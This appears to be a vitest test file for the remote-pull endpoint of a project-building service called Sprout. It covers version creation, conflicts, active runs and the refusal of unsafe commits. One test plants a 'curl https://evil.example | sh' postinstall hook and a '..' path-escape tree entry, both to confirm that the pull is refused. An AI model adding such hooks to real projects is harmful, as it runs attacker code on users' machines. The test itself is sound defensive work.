import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { REMOTE_DIVERGED_MESSAGE } from '@sprout/core';
import { APP, fileOf, newProject, send, type Session, versionsOf, writeApp } from '../testing';
import { useRemoteFixture } from './remote.testing';

const f = useRemoteFixture();
const { t } = f;
let owner: Session;
let sproutId: string;
let remote: string;
let work: string;

// Each test: a person of their own, a project connected to a remote of its own, and a clone of the remote.
let count = 0;
beforeEach(async () => {
  owner = await t.register();
  sproutId = await newProject(t, owner);
  remote = `pull-${++count}`;
  await f.connect(owner, sproutId, remote);
  work = await f.cloneRemote(remote);
});

const pull = () => t.api('POST', `/build/v1/sprouts/${sproutId}/remote/pull`, { token: owner.idToken });

/** Commits a change to one file in the clone of the remote, and pushes it there. */
async function commitOnRemote(message: string, content: string, file = 'client/src/App.tsx') {
  await writeFile(path.join(work, file), content);
  await f.git.ok(['add', '-A'], work);
  await f.git.ok(['commit', '-q', '-m', message], work);
  await f.git.ok(['push', '-q', 'origin', 'main'], work);
}

describe('pulling from a remote', () => {
  it('makes each new commit of the remote a version with the same files', async () => {
    await commitOnRemote('Make it red', 'export default () => "red";\n');
    await commitOnRemote('Add a note', 'Remember the milk.\n', 'client/src/note.txt');
    const head = await f.remoteHead(remote);
    const res = await pull();
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.versions.map((v: { source: string; summary: string }) => [v.source, v.summary])).toEqual([
      ['git', 'Make it red'],
      ['git', 'Add a note'],
    ]);
    expect(body.remote).toMatchObject({ lastError: null, lastPulledAt: expect.any(String) });
    const list = await versionsOf(t, owner, sproutId);
    expect(list.currentVersionId).toBe(body.versions[1].id);
    expect(await fileOf(t, owner, sproutId, 'client/src/App.tsx')).toBe('export default () => "red";\n');
    expect(await fileOf(t, owner, sproutId, 'client/src/note.txt')).toBe('Remember the milk.\n');
    // The remote's commits are the versions' commits: Sprout's next push has nothing to rewrite.
    // (The pull's own versions are pushed too, changing nothing: waited past.)
    const pushed = f.nextPush(sproutId, async () => (await f.remoteHead(remote)) !== head);
    await f.edit(owner, sproutId, 'export default () => "after";\n');
    expect((await pushed).result).toEqual({ ok: true });
    await f.git.ok(['pull', '-q', '--ff-only'], work);
    expect(await f.git.ok(['rev-parse', 'HEAD~1'], work)).toBe(head);
    expect(await readFile(path.join(work, 'client/src/App.tsx'), 'utf8')).toBe('export default () => "after";\n');
  });

  it('brings nothing when the remote has nothing new', async () => {
    const before = await versionsOf(t, owner, sproutId);
    const res = await pull();
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().versions).toEqual([]);
    expect((await versionsOf(t, owner, sproutId)).versions).toHaveLength(before.versions.length);
  });

  it('changes nothing on either side when both have new commits, and says so', async () => {
    await commitOnRemote('Theirs', 'export default () => "theirs";\n');
    const theirHead = await f.remoteHead(remote);
    // Sprout's own new version: its push is refused by the remote, which moved on.
    const refused = f.nextPush(sproutId, (o) => o.result?.ok === false);
    await f.edit(owner, sproutId, 'export default () => "ours";\n');
    expect((await refused).result).toMatchObject({ ok: false, rejected: true });
    const before = await versionsOf(t, owner, sproutId);
    const res = await pull();
    expect(res.statusCode).toBe(409);
    expect(res.json()).toEqual({ code: 'remote_diverged', message: REMOTE_DIVERGED_MESSAGE });
    expect(await versionsOf(t, owner, sproutId)).toEqual(before);
    expect(await fileOf(t, owner, sproutId, 'client/src/App.tsx')).toBe('export default () => "ours";\n');
    expect(await f.remoteHead(remote)).toBe(theirHead);
    const status = (await t.api('GET', `/build/v1/sprouts/${sproutId}/remote`, { token: owner.idToken })).json();
    expect(status.remote.lastError).toBe(REMOTE_DIVERGED_MESSAGE);
  });

  it('refuses a commit that adds an install script, a file outside the project or a merge, in a pull’s words, and makes no version', async () => {
    const before = await versionsOf(t, owner, sproutId);
    const manifest = JSON.parse(await readFile(path.join(work, 'package.json'), 'utf8'));
    manifest.scripts = { ...manifest.scripts, postinstall: 'curl https://evil.example | sh' };
    await commitOnRemote('Install hook', JSON.stringify(manifest, null, 2), 'package.json');
    const script = await pull();
    expect(script.statusCode).toBe(422);
    expect(script.json()).toMatchObject({ code: 'pull_refused', message: expect.stringMatching(/Nothing was pulled\. .*"postinstall" script/) });

    // The same remote, rewritten: a tree with a "../x.ts" entry, made with git's plumbing (git's porcelain would not write one).
    await f.git.ok(['reset', '-q', '--hard', 'HEAD~1'], work);
    const blob = await f.git.ok(['hash-object', '-w', '--stdin'], work, 'export const x = 1;\n');
    const inner = await f.git.ok(['mktree'], work, `100644 blob ${blob}\tx.ts\n`);
    const root = await f.git.ok(['ls-tree', 'HEAD'], work);
    const tree = await f.git.ok(['mktree'], work, `${root}\n040000 tree ${inner}\t..\n`);
    const commit = await f.git.ok(['commit-tree', tree, '-p', 'HEAD', '-m', 'Escape'], work);
    await f.git.ok(['push', '-q', '--force', 'origin', `${commit}:refs/heads/main`], work);
    const escape = await pull();
    expect(escape.statusCode).toBe(422);
    expect(escape.json()).toMatchObject({ code: 'pull_refused', message: expect.stringMatching(/invalid path "\.\.\/x\.ts"/) });

    // A merge on the remote: refused in a pull's words, not a push's.
    const side = await f.git.ok(['commit-tree', 'HEAD^{tree}', '-p', 'HEAD', '-m', 'Side'], work);
    const merge = await f.git.ok(['commit-tree', 'HEAD^{tree}', '-p', 'HEAD', '-p', side, '-m', 'Merge'], work);
    await f.git.ok(['push', '-q', '--force', 'origin', `${merge}:refs/heads/main`], work);
    const merged = await pull();
    expect(merged.statusCode).toBe(422);
    expect(merged.json().message).toBe(
      `Nothing was pulled. Commit ${merge.slice(0, 12)} is a merge; Sprout keeps a straight history. Rebase the remote's main on the project's history (no merge commits), then pull again.`,
    );

    expect(await versionsOf(t, owner, sproutId)).toEqual(before);
  });

  it('waits while a run is writing the project, as a push does', async () => {
    await commitOnRemote('Theirs', 'export default () => "theirs";\n');
    f.fake.reply({ text: writeApp(APP('Half written')).slice(0, 40), hold: true });
    const accepted = await send(t, owner, sproutId, 'Build it');
    expect(accepted.statusCode).toBe(202);
    const before = await versionsOf(t, owner, sproutId);
    const res = await pull();
    expect(res.statusCode).toBe(409);
    expect(res.json().code).toBe('run_active');
    expect((await t.api('POST', `/build/v1/runs/${accepted.json().runId}/stop`, { token: owner.idToken })).statusCode).toBe(200);
    expect(await versionsOf(t, owner, sproutId)).toEqual(before);
  });
});
